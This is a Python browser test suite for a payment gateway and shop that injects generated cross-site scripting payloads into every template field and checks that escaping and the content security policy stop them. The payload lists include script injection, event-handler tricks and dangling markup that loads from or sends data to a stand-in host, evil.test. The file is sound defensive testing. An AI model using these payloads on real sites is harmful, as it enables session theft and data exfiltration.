"""Hostile words in every place of our pages where a word may stand, in a real browser.

The gateway's window, the PG's pages and the shop's. Fifty frames a page. The controls turn the escaping off in the test's own copy of the templates: then
the words become nodes and the content security policy stops each of them (0 run); without the
policy too they run, so the detector can see.
"""

from __future__ import annotations

import itertools
import shutil
import tempfile
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from jinja2 import Environment, FileSystemLoader
from playwright.async_api import BrowserContext
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import FileResponse, HTMLResponse, Response
from starlette.routing import Route

from naru.checkout import pages
from naru.domain.payment import Buyer, Payment
from naru.sandbox import app as sandbox_app
from naru.sandbox import door
from naru.shop import app as shop_app
from naru.shop import goods
from naru.shop.orders import Message, StoredOrder
from naru.shop.sms import Inbox
from tests.attacks.conftest import Watched, watch
from tests.checkout.browser import serve
from tests.domain.test_payment import a_payment
from tests.support.scale import often

pytestmark = pytest.mark.asyncio(loop_scope="session")

BATCH = 50
PAGE_PATIENCE_MS = 90_000
CALLS = ["pwn(1)", "top.pwn(1)", "self['pwn'](1)", "fetch('http://evil.test/')", "alert(1)"]
# Out of the place where a word stands …
EXITS = [
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "--></textarea>",
    "]]>",
    "\u2028",
    "\\u003c",
]
# … into something that runs.
RUNS = [
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe src='javascript:parent.{c}'></iframe>",
    "<object data='javascript:{c}'></object>", "<embed src='javascript:{c}'>", "<body onload={c}>",
    "<input autofocus onfocus={c}>", "<details open ontoggle={c}>", "<video><source onerror={c}></video>",
    "<style>@import 'http://evil.test/x.css'</style>", "<base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>", "<link rel=stylesheet href='http://evil.test/'>",
    "<form action='http://evil.test/'><button id=x>", "<script src='http://evil.test/x.js'></script>",
    # Markup that is left open swallows what follows, and takes it along.
    "<img src='http://evil.test/?", "<a href='http://evil.test/?", "<form action='http://evil.test/'><textarea name=t>",
    "<button formaction='http://evil.test/' form=enter>", "<base target='", "<iframe name='", "<noscript><img src='//evil.test/?",
    "<math><mtext><script>{c}</script></mtext></math>", "<template><script>{c}</script></template>",
    "onmouseover={c} autofocus onfocus={c} x=", "javascript:{c}//", "{{{{{c}}}}}", "${{{c}}}", "';{c};//", '";{c};//',
]  # fmt: skip


def payloads(count: int) -> list[str]:
    """So many different ones: exits x runs x calls, the plainest first."""
    every = (
        exit_ + run.format(c=call) for call, exit_, run in itertools.product(CALLS, EXITS, RUNS)
    )
    return list(itertools.islice(dict.fromkeys(every), count))


@dataclass
class Stage:
    """A server of frames: `/all/7` holds fifty frames, each with one payload in every sink."""

    origin: str
    sinks: int


def sinks(payment: Payment, word: str) -> list[dict[str, Any]]:
    """The gateway's pages with this word wherever a stranger's or a PG's word may stand."""
    account = SimpleNamespace(bank_name=word, number=word, holder=word)
    facts = {"mode": word, "request_id": word, "imp_uid": word, "page_origin": "http://evil.test",
             "next": "#", "final": True, "result": {"error_msg": word, "custom_data": {word: word}},
             "redirect_url": word, "poll": "#"}  # fmt: skip
    error = {"error_msg": word, "error_code": word}
    common: dict[str, Any] = {"payment": payment, "merchant_name": word, "facts": facts}
    done = common | {"template": "done.html", "error": error, "due": word}
    form = SimpleNamespace(action="/stay", charset="utf-8", fields={word: word})
    return [
        common | {"template": "window.html"},
        done | {"state": "failed", "account": None},
        done | {"state": "waiting", "account": account},
        common | {"template": "enter.html", "form": form, "form_action": "'self'"},
    ]


def slip(word: str) -> dict[str, Any]:
    """The PG's receipt, with this word in everything that a merchant or a buyer said."""
    return {"tid": word, "merchant_name": word, "item_name": word, "merchant_order_no": word,
            "amount": 1004, "cancelled": 0, "currency": "KRW", "pay_method": word, "means": word,
            "approval_number": word, "approved_at": 1_700_000_000}  # fmt: skip


def inbox(word: str) -> dict[str, Any]:
    return {"messages": [{"id": 1, "at": 1_700_000_000, "to": word, "text": word}]}


def desk(word: str) -> dict[str, Any]:
    """The PG's desk: words of the merchant, of who paid in, and of whoever answered the notice."""
    at = 1_700_000_000
    attempt = {"at": at, "outcome": "refused", "http_status": 500, "detail": word, "duration_ms": 1}
    notice = {"notice_id": word, "state": word, "next_at": at, "amount": 1, "attempts": [attempt]}
    deposit = {"amount": 1, "depositor": word, "deposited_at": at, "late": True}
    account = {"number": word, "bank_code": "088", "bank_name": word, "holder": word, "merchant_name": word,
               "item_name": word, "order_no": word, "state": word, "amount": 1004, "currency": "KRW", "total": 1,
               "issued_at": at, "due": at, "overdue": True, "deposits": [deposit], "notices": [notice]}  # fmt: skip
    return {"number": word, "accounts": [account], "server_time": at}


def index(word: str) -> dict[str, Any]:
    card = {"id": word, "issuer_code": "361", "issuer_name": word, "auth": "mpi", "number": word, "masked": word,
            "expiry": word, "cvc": word, "password": word, "pin": word, "note_ko": word, "note_en": word}  # fmt: skip
    return {"public_url": word, "cards": [card], "locked_card_ids": [word], "magic": []}


PG_PAGES: list[tuple[str, Callable[[str], dict[str, Any]]]] = [
    ("receipt.html", slip), ("inbox.html", inbox), ("desk.html", desk), ("index.html", index),
]  # fmt: skip


def stored_order(word: str, **changes: Any) -> StoredOrder:
    """An order of the shop with this word in every column that somebody else filled."""
    words = dict.fromkeys(
        ("visitor", "product_key", "buyer_name", "buyer_tel", "buyer_email", "buyer_addr", "buyer_postcode",
         "paid_by", "receipt_url", "fail_reason", "account_bank", "account_number", "account_holder"), word)  # fmt: skip
    plain = {"merchant_uid": "NR-1", "quantity": 1, "amount_minor": 1004, "currency": "KRW", "placed_at": 1_700_000_000,
             "status": "placed", "imp_uid": word, "cancelled_minor": 1, "paid_at": 1_700_000_000,
             "account_due": 1_700_000_000}  # fmt: skip
    return StoredOrder(**cast("Any", words | plain | changes))


def shop_sinks(word: str) -> list[tuple[str, dict[str, Any]]]:
    """The shop's pages: an order in each of its states, lists, the form that comes back, goods."""

    def order(status: str, **changes: Any) -> tuple[str, dict[str, Any]]:
        stored = stored_order(word, status=status, **changes)
        return "order.html", {
            "order": stored, "product": None, "methods": goods.methods_for("KRW"), "mine": True, "checking": False,
            "reason": word, "due": word, "paid_at": word, "window": {"words": {}, "param": {"buyer": word}},
            "sdk_url": "/static/none.js"}  # fmt: skip

    # Its key is a word of our own, and so is the order's number: both stand in addresses.
    hostile = goods.Product("chair", (word, word), (word, word), 1004)
    message = Message(1, word, word, word, word, 1_700_000_000)
    values = dict.fromkeys(("name", "tel", "email", "addr", "postcode"), word)
    return [
        order("placed"),
        order("waiting_deposit"),
        order("paid"),
        order("paid", receipt_url="https://shop.test/" + word),
        ("orders.html", {"orders": [stored_order(word)], "goods": goods}),
        ("inbox.html", {"messages": [message]}),
        ("order_form.html", {"product": hostile, "quantity": 1, "amount_minor": 1, "values": values, "errors": list(values)}),
        ("home.html", {"products": [hostile]}),
        ("product.html", {"product": hostile}),
    ]  # fmt: skip


@asynccontextmanager
async def open_stage(
    words: list[str], payment: Payment, *, policy: bool = True
) -> AsyncIterator[Stage]:
    """`policy` False takes the content security policy away (a control)."""
    company = cast("Any", SimpleNamespace(templates=pg_templates))
    folder = Path(tempfile.mkdtemp(prefix="naru-xss-"))
    keeper = shop_app.Shop(
        shop_app.Settings(folder / "shop.sqlite3", "http://127.0.0.1:1", "key", "secret", "imp00000000",
                          allow_sandbox=True), Inbox())  # fmt: skip
    keeper.pages = shop_templates or keeper.pages
    in_shop = shop_app.SafeHeaders(Starlette(), "http://127.0.0.1:1")

    def render(request: Request, word: str, sink: int) -> Response:
        mine = replace(payment, name=word, merchant_uid=cast("Any", word), buyer=Buyer(name=word),
                       page_origin="http://shop.test", window_mode="iframe", sandbox=True)  # fmt: skip
        gateway_sinks = sinks(mine, word)
        if sink < len(gateway_sinks):
            return pages.page(**gateway_sinks[sink])
        sink -= len(gateway_sinks)
        if sink < len(PG_PAGES):
            template, context = PG_PAGES[sink]
            return door.render(company, template, context(word), "'self'")
        template, values = shop_sinks(word)[sink - len(PG_PAGES)]
        answer = keeper._page(request, template, **values)
        policy = in_shop._policy.decode()
        answer.headers["Content-Security-Policy"] = policy.replace(
            "ancestors 'none'", "ancestors 'self'"
        )
        return answer

    async def one(request: Request) -> Response:
        answer = render(request, words[request.path_params["word"]], request.path_params["sink"])
        # Our stage frames them; who may frame is another test's matter.
        old = answer.headers["Content-Security-Policy"]
        answer.headers["Content-Security-Policy"] = old.replace("http://shop.test", "'self'")
        if not policy:
            del answer.headers["Content-Security-Policy"]
        return answer

    async def many(request: Request) -> Response:
        sink, first = request.path_params["sink"], request.path_params["first"]
        last = min(first + BATCH, len(words))
        frames = (f"<iframe src='/one/{sink}/{word}'></iframe>" for word in range(first, last))
        return HTMLResponse("<!doctype html>" + "".join(frames))

    async def stay(request: Request) -> Response:
        return Response(status_code=204)

    async def static(request: Request) -> Response:
        for company_app in (sandbox_app, shop_app):
            file = Path(company_app.__file__).parent / "static" / request.path_params["path"]
            if file.is_file():
                return FileResponse(file)
        return Response(status_code=404)

    routes = [
        Route("/one/{sink:int}/{word:int}", one),
        Route("/all/{sink:int}/{first:int}", many),
        Route("/static/{path:path}", static),
        Route("/{path:path}", stay, methods=["GET", "POST"]),
    ]
    count = len(sinks(payment, "")) + len(PG_PAGES) + len(shop_sinks(""))
    try:
        async with serve(Starlette(routes=routes)) as origin:
            yield Stage(origin, count)
    finally:
        shutil.rmtree(folder)


pg_templates = sandbox_app._templates()
shop_templates: Environment | None = None

# A page's own: its scripts have a nonce or come from its own server, and it frames nothing.
STRANGE = """(own) => { const seen = []; const evil = /^\\s*(https?:)?[/\\\\]{2}evil/; for (const frame of document.querySelectorAll("iframe")) {
  const inside = frame.contentDocument; if (!inside) continue;
  for (const node of inside.querySelectorAll("script,iframe,object,embed,base,meta[http-equiv],link"))
    if (!(node.nonce || own.includes(node.tagName))) seen.push(node.outerHTML);
  for (const node of inside.querySelectorAll("*")) for (const each of node.attributes)
    if (/^on/.test(each.name) || /^\\s*javascript:/i.test(each.value)
        || (/^(src|href|action|formaction)$/.test(each.name) && evil.test(each.value))) seen.push(node.outerHTML);
  } return seen.length; }"""


async def show(
    context: BrowserContext, stage: Stage, share: Callable[[int], tuple[int, int]]
) -> tuple[Watched, int]:
    """Load each sink's share of the words; what ran, what was stopped, and how many strange nodes stand in the pages."""
    page = await context.new_page()
    # Fifty pages at once, on a machine that may have ten neighbours.
    page.set_default_timeout(PAGE_PATIENCE_MS)
    watched = await watch(page)
    strange = 0
    for sink in range(stage.sinks):
        own = ["LINK", "SCRIPT"] if sink >= 4 else []
        for first in range(*share(sink), BATCH):
            await page.goto(f"{stage.origin}/all/{sink}/{first}", wait_until="load")
            strange += await page.evaluate(STRANGE, own)
    await page.close()
    return watched, strange


@pytest.fixture
def payment() -> Payment:
    return a_payment()


async def test_hostile_words_stay_words_in_every_sink(
    context: BrowserContext, payment: Payment
) -> None:
    words = payloads(often(300, 1300))
    assert len(set(words)) == len(words) >= 300
    async with open_stage(words, payment) as stage:
        each = len(words) // stage.sinks

        def share(sink: int) -> tuple[int, int]:
            # By day every payload visits one sink, by night all of them.
            return often(sink * each, 0), often((sink + 1) * each, len(words))

        watched, strange = await show(context, stage, share)
    print(f"{len(words)} payloads, {stage.sinks} sinks: {len(watched.ran)} ran")
    assert (watched.ran, watched.blocked, strange) == ([], [], 0)


@pytest.mark.parametrize("policy", [True, False])
async def test_control_without_escaping_the_policy_stops_them_and_without_it_they_run(
    context: BrowserContext, payment: Payment, monkeypatch: pytest.MonkeyPatch, policy: bool
) -> None:
    words = payloads(often(26, 66))[:: often(2, 1)]
    # The test's own copies; a plain `autoescape` is all that differs.
    monkeypatch.setattr(pages, "_templates", pages._templates.overlay(autoescape=False))
    monkeypatch.setitem(globals(), "pg_templates", pg_templates.overlay(autoescape=False))
    plain = Environment(
        loader=FileSystemLoader(Path(shop_app.__file__).parent / "templates"), autoescape=False
    )
    monkeypatch.setitem(globals(), "shop_templates", plain)
    async with open_stage(words, payment, policy=policy) as stage:
        watched, strange = await show(context, stage, lambda sink: (0, len(words)))
    print(
        f"escaping off, policy {'on' if policy else 'off'}: {strange} strange nodes, "
        f"{len(watched.blocked)} stopped, {len(watched.ran)} ran"
    )
    assert strange > 100
    if policy:
        assert len(watched.blocked) > 100
        # No policy speaks about where <meta refresh> leads: that one stays the escaping's alone.
        assert set(watched.ran) <= {"http://evil.test/refresh"}
    else:
        assert watched.blocked == []
        assert len(watched.ran) > 100
